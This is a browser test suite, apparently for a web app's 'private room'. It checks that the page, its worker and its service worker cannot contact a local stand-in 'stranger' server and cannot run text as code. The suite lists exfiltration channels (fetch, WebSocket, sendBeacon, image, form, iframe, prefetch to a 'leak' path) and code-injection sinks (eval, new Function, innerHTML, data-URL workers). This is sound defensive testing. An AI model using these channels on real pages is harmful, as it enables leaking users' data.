"""What the browser itself refuses in the private room: strangers' addresses, and text as code.

Each attempt is made from the page, from its worker and from its service worker, as code that had
slipped in would make it. A server of our own stands by as the stranger; it must hear nothing.
"""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, Worker

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

WAYS_OUT = {
    "fetch": "await fetch(away, { mode: 'no-cors' })",
    "websocket": "await settled(new WebSocket(away.replace('http', 'ws')))",
    "event source": "await settled(new EventSource(away))",
}
WAYS_OUT_OF_A_PAGE = {
    "beacon": "navigator.sendBeacon(away, 'private')",
    "image": "await settled(make('img', { src: away }))",
    "style": "await settled(add(make('link', { rel: 'stylesheet', href: away })))",
    "frame": "add(make('iframe', { src: away }))",
    "form": "add(make('form', { action: away, method: 'post' })).submit()",
    "prefetch": "add(make('link', { rel: 'prefetch', href: away }))",
}
HELP = """
  const make = (tag, given) => Object.assign(document.createElement(tag), given);
  const add = (one) => document.body.appendChild(one);
  const settled = (one) => new Promise((done) => {
    one.onerror = one.onload = one.onopen = done;
  });
"""
# Run as a task of its own: what a debugger evaluates directly may use eval, whatever the policy.
TEXT_AS_CODE = {
    "eval": "eval('1 + 1')",
    "a function from text": "new Function('return 1')()",
    "a timer from text": (
        "setTimeout('globalThis.ran = true'); await new Promise((later) => setTimeout(later, 50));"
        "if (!globalThis.ran) throw new EvalError()"
    ),
    "markup from text": "document.body.innerHTML = '<p>x</p>'",
    "written markup": "document.write('<p>x</p>')",
    "parsed markup": "new DOMParser().parseFromString('<p>x</p>', 'text/html')",
    "another worker": "new Worker('/room/another.js')",
    "a worker from data": "new Worker('data:text/javascript,1')",
    "a script from text": "document.createElement('script').text = '1 + 1'",
    "a second policy": "trustedTypes.createPolicy('another', { createHTML: (text) => text })",
    "the same policy again": "trustedTypes.createPolicy('vault', { createHTML: (text) => text })",
}


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """A server that is not ours, and every request that reaches it."""
    heard: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name is the standard library's

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}/", heard
    server.shutdown()


def _attempt(code: str) -> str:
    return (
        f"(away) => new Promise((resolve) => setTimeout(async () => {{ {HELP} "
        f"try {{ {code}; resolve('done') }} catch (refusal) {{ resolve(refusal.name) }} }}))"
    )


def _told_the_stranger(page: Page, address: str, heard: list[str]) -> list[str]:
    """What reached the stranger, after a page without our policy went there as the control."""
    control = page.context.new_page()
    control.goto(address + "control")
    control.close()
    return [path for path in heard if path != "/favicon.ico"]


@pytest.mark.parametrize("way", WAYS_OUT | WAYS_OUT_OF_A_PAGE)
def test_the_page_reaches_no_other_address(
    warm_page: tuple[Page, list[str]], stranger: tuple[str, list[str]], way: str
) -> None:
    page, _ = warm_page
    address, heard = stranger

    page.evaluate(_attempt((WAYS_OUT | WAYS_OUT_OF_A_PAGE)[way]), address + "leak")

    assert _told_the_stranger(page, address, heard) == ["/control"]


@pytest.mark.parametrize("way", WAYS_OUT)
@pytest.mark.parametrize("place", ["worker", "service worker"])
def test_no_worker_reaches_another_address(
    warm_page: tuple[Page, list[str]], stranger: tuple[str, list[str]], place: str, way: str
) -> None:
    page, _ = warm_page
    address, heard = stranger
    worker: Worker = page.workers[0] if place == "worker" else page.context.service_workers[0]

    worker.evaluate(_attempt(WAYS_OUT[way]), address + "leak")

    assert _told_the_stranger(page, address, heard) == ["/control"]


@pytest.mark.parametrize("what", TEXT_AS_CODE)
def test_text_never_becomes_code_or_markup(warm_page: tuple[Page, list[str]], what: str) -> None:
    page, _ = warm_page

    said = page.evaluate(_attempt(TEXT_AS_CODE[what]))

    assert said in ("TypeError", "EvalError")
